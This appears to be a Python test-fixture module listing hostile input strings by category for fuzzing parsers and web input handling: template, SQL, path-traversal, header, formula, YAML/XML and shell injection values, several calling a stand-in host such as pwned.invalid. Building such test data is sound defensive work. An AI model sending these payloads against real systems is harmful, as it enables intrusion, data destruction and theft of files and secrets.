"""Parts of hostile text that is no markup: for templates, SQL, files, headers, tables, parsers, counters and eyes."""

from __future__ import annotations

from itertools import product

SUM = "1337*7331"
COMPUTED = str(1337 * 7331)
"""What a page shows when somebody's text was run as a template."""
TEMPLATES = tuple(
    before + inside + after
    for (before, after), inside in product(
        (("{{", "}}"), ("{{ ", "|safe }}"), ("{%print ", "%}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("@(", ")")),
        (SUM, "config", "''.__class__.__mro__", "request.environ", "cycler.__init__.__globals__.os", "[].pop", "get_flashed_messages()"),
    )
) + (
    "{% raw %}", "{% endblock %}", "{#", "{{", "}}{{", "{%", "{% include '/etc/passwd' %}", "{% extends 'pwned' %}", "%(name)s",
    "%s%s%s%n", "%d", "{0.__class__}", "{name!r:>9999}", "{}", "$name", "${jndi:ldap://pwned.invalid/#}", "<?= P ?>",
    "[[${7}]]", "{{=<% %>=}}", "{{{pwned}}}", "<#assign x=1>", "#set($x=1)", "{{range.constructor('P')()}}",
)  # fmt: skip
SQL = tuple(
    before + after
    for before, after in product(
        ("'", '"', "')", "\\'", "%'", "1", "`"),
        (" OR 1=1 --", "; DROP TABLE vote; --", " UNION SELECT password_hash FROM account --", " OR ''='", " AND SLEEP(9) #",
         "||(SELECT pg_sleep(9))||'", " AND 1=randomblob(900000000) --", "/**/OR/**/1=1"),
    )
) + (
    "%", "_", "%_%", "\\", "\\%", ":name", ":1", "%(id)s", "?", "$1", "E'\\x27'", "--", "/*", "*/", ";", "NULL", "ATTACH 'x' AS y",
    "COPY vote TO PROGRAM 'id'", "'; VACUUM INTO 'pwned'; --", "load_extension('pwned')", "a:*&!|b", "* MATCH NEAR(", "\"a\" AND",
)  # fmt: skip
PATHS = tuple(
    before + after
    for before, after in product(
        (
            "../",
            "../../../../",
            "..\\..\\",
            "..%2f..%2f",
            "%2e%2e/",
            "....//",
            "..;/",
            "/",
            "~/",
            "C:\\",
            "\\\\?\\",
            "a/../../",
        ),
        ("etc/passwd", "static/js/app.js", "hiring.sqlite3", "proc/self/environ", "aux.pdf"),
    )
)
HEADERS = tuple(
    line_end + line
    for line_end, line in product(
        ("x\r\n", "x\n", "x\r", "x%0d%0a", "x\u560d\u560a", "x\u2028", "x\x0b", "x\x85"),
        ("Set-Cookie: pwned=#", "Location: //pwned.invalid/#", "X-Pwned: #", "Bcc: pwned@pwned.invalid", "BEGIN:VEVENT",
         "ATTACH:http://pwned.invalid/#", "Content-Type: text/html\r\n\r\n<script>P</script>"),
    )
)  # fmt: skip
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(9), 11, 12, *range(14, 32), *range(127, 160)))
SURROGATES = (
    "\ud800", "\udbff", "\udc00", "\udfff", "a\ud800b", "\udc80abc", "\udfff\ud800", "\ud800 \udc00", "\ude42\ud83d", "x" * 50 + "\ud83d",
)  # fmt: skip
BIDI = tuple(
    form.replace("~", chr(code))
    for code, form in product(
        (0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x061C),
        ("~gpj.exe", "user~nimda ~of"),
    )
) + ("\u05e9\u05dc\u05d5\u05dd #", "\u0645\u0631\u062d\u0628\u0627 # abc \u05d0", "\u202e" * 100)
ZERO_WIDTH = tuple(
    f"ad{chr(code)}min"
    for code in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0xAD, 0x180E, 0x2061, 0x2064, 0xFE0F, 0xE0041, 0x115F, 0x3164)
) + ("\u200b", "\ufeff", "\u200d" * 150, "\u00ad" * 3, "\u3164", "\u2800", " \t\u00a0\u2028 ", "\u3000")
LONG = (
    "a" * 201, "a" * 10_001, "word " * 4001, "\U0001f642" * 10_001, "<" * 5000, "&amp;" * 3000, "(" * 9000, "\n" * 9999 + "x", "a\n" * 5001,
    "<div>" * 3000, "{" * 12_000, "\u0301" * 10_050, "x" * 70_000, "-" * 9_999 + "|", "\t" * 9_000 + "x",
)  # fmt: skip
PICTURES = (
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 60, "\U0001f1e9", "\U0001f1e9\U0001f1ea\U0001f1e9", "\U0001f44d\U0001f3fd\U0001f3ff",
    "e" + "\u0301" * 199, "Z" + "\u0334\u035d\u0489" * 50, "\u20e3", "1\ufe0f\u20e3", "\ufffe", "\uffff", "\U0010ffff", "\U0001fffe", "\ue000",
    "\U000f0000", "\ufdd0", "\ufdfd" * 40, "\u0e01\u0e33\u0e49\u0e49\u0e49", "\u1100\u1161\u11a8" * 30, "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
    "\U00012019" * 20, "\u2603\ufe0e\ufe0f", "\U0001f3f4\U000e0067\U000e007f", "\u20bf\u20ac\u00a3", "\ufffd", "\U0001d54f\U0001d556",
)  # fmt: skip
FORMULAS = tuple(
    start + formula
    for start, formula in product(
        ("=", "+", "-", "@", "\t=", "\r=", "|", "%", "\uff1d", " =", '"=', ";="),
        (
            "1+1",
            "cmd|' /C calc'!A0",
            'HYPERLINK("http://pwned.invalid/#";"go")',
            "SUM(A1:A9)*P",
            'IMPORTXML("//pwned.invalid";"//a")',
        ),
    )
)
DOCUMENTS = (
    '{"a":1,"a":2}', '{"vote":"inclined","vote":"not_inclined"}', "NaN", "-Infinity", "[1e999]", "[" * 3000, '{"a":' * 900, '"\\ud800"',
    "[1,]", "\ufeff{}", "{'a':1}", "null", "true", "[]", "{}", '""', "\\u0000", '{"$ref":"#"}', '{"$gt":""}', '{"__class__":"x"}',
    '!!python/object/apply:os.system ["id"]', "&a [*a, *a]", "<<: *a", "*a", "~", "yes", "0o17", "2026-01-01", "!!binary |\n  AAAA", "---\n...\n---",
    "a: b: c", "\ta: 1", "%YAML 9.9\n---", "? [a]: b", "a: 1\na: 2", "- &x [*x,*x,*x]", "!!set {a, b}", "a: |\n b\nc",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '<!ENTITY a "&b;&b;">', "<x xmlns:xi='#'><xi:include href='//pwned.invalid/#'/>",
)  # fmt: skip
ALIKE = (
    "Caf\u00e9", "Cafe\u0301", "\uff1cscript\uff1eP", "\ufe64script\ufe65P", "\u017fcript", "\u212aelvin", "\u0130stanbul", "\u0131rma", "\ufb01ne",
    "\u2167", "\u00bd", "\u1e9e", "stra\u00dfe", "STRASSE", "\u03c2\u03c3\u03a3", "\u0430dmin", "\u0391dmin", "\u212b\u00c5A\u030a", "\u1112\u1161\u11ab",
    "\ud55c", "\u0958", "\u0915\u093c", "\u1f80\u0345", "\ufb2b\u05bc", "\u2126\u03a9", "a\u0323\u0307", "a\u0307\u0323", "\u01c5", "\u0149", "\uff0e\uff0e\uff0f",
    "\u2025/\u2025/etc", "\u2100 \u2488 \u33a7", "\ufdfa", "user\uff20pwned.invalid", "\u24d0dmin@example.com",
)  # fmt: skip
NUMBERS = (
    "2147483647", "2147483648", "-2147483649", str(2**63 - 1), str(2**63), str(-(2**63) - 1), str(2**64), "9" * 400, "9" * 5000, "1e400", "1e-400",
    "NaN", "-NaN", "inf", "-0", "0x10", "0b1", "1_000", "1,000", "1.0", "1.", ".5", "+1", " 1 ", "00001", "--1", "\uff11\uff12", "\u0663", "\u00b2", "\u216b",
    "\u4e03", "1/0", "1e5", "0e0", "1\u00a0000", "\u221215", "\u2212\u221e", "\U0001d7d9",
)  # fmt: skip
DATES = (
    "2026-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-13-45", "2026-W01-1", "2026-1-1", "20260101",
    "2026-02-29T00:00", "\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0661", "1e9-01-01", "25:61", "24:00", "23:59:60", "-1:00", "12:00:00.9999999",
    "12:00+99:99", "\uff11\uff12:\uff10\uff10", "Europe/../../etc/passwd", "../Europe/Berlin", "Etc/GMT+99", "localtime", "posixrules", "Europe/Berlin\u0000",
    "europe/berlin", "Europe", "/etc/localtime", "UTC+1", "Mars/Olympus", "2026-03-29 02:30", "1970-01-01", "2038-01-19", "\u2026-01-01",
)  # fmt: skip
CODED = (
    "%", "%%", "%0", "%zz", "%c0%af", "%c0%ae%c0%ae/", "%u003cscript%u003e", "%25%33%43", "%00", "%ff%fe", "%E2%80", "%0d%0a", "&#x3c;script&#x3e;P",
    "&lt;script&gt;P", "&#0;", "&#xD800;", "&#x110000;", "&NotAnEntity;", "&amp%3b", "&lt", "&notit;", "+", "%2B", "a%20b+c", "a=b&c=d", "a;b=c",
    "?a=b#c", "#", "#main", "=?utf-8?B?PHNjcmlwdD4=?=", "\\u003cscript\\u003e", "\\074script\\076", "\\0", "\\n", "\\r\\nX-Pwned: #", "%F0%9F", "%ed%a0%80",
)  # fmt: skip
NAMES = (
    "__proto__", "constructor", "constructor.prototype", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", "__lookupSetter__",
    "__proto__[pwned]=1", "a[b][c]", "a.b.c", "length", "then", "nodeName", "parentNode", "submit", "action", "elements", "__class__",
    "__init__.__globals__", "self", "cls", "request", "session", "None", "True", "undefined", "null", "id", "csrf_token", "idempotency_key", "version",
    '{"__proto__":{"pwned":#}}', '{"constructor":{"prototype":{"pwned":#}}}', "admin", "root", "me", "new", "edit", "..",
)  # fmt: skip
SHELLS = (
    "; id", "| cat /etc/passwd", "$(id)", "`id`", "&& curl //pwned.invalid/#", "|| true", "> /tmp/pwned", "${IFS}id", "\\$(id)", "'; id; '", "%COMSPEC%",
    "-rf", "--help", "-oProxyCommand=id", "*)(uid=*", "*)(|(a=*", "(a+)+$", "a" * 190 + "!", "^(?=.*)$", "[[:alpha:]", "\\p{L}", "(?R)", "[", "*",
    "x\nlevel=error msg=pwned", "\x1b[31mred\x1b[0m", "\x1b]0;pwned\x07", "GET / HTTP/1.1", "() { :;}; id", "os.system('id')", "__import__('os')", "exec(P)",
)  # fmt: skip

TEXT = {
    "template": TEMPLATES, "sql": SQL, "path": PATHS, "header": HEADERS, "control": CONTROLS, "surrogate": SURROGATES, "bidi": BIDI,
    "zero width": ZERO_WIDTH, "long": LONG, "picture": PICTURES, "formula": FORMULAS, "document": DOCUMENTS, "alike": ALIKE, "number": NUMBERS,
    "date": DATES, "coded": CODED, "name": NAMES, "shell": SHELLS,
}  # fmt: skip
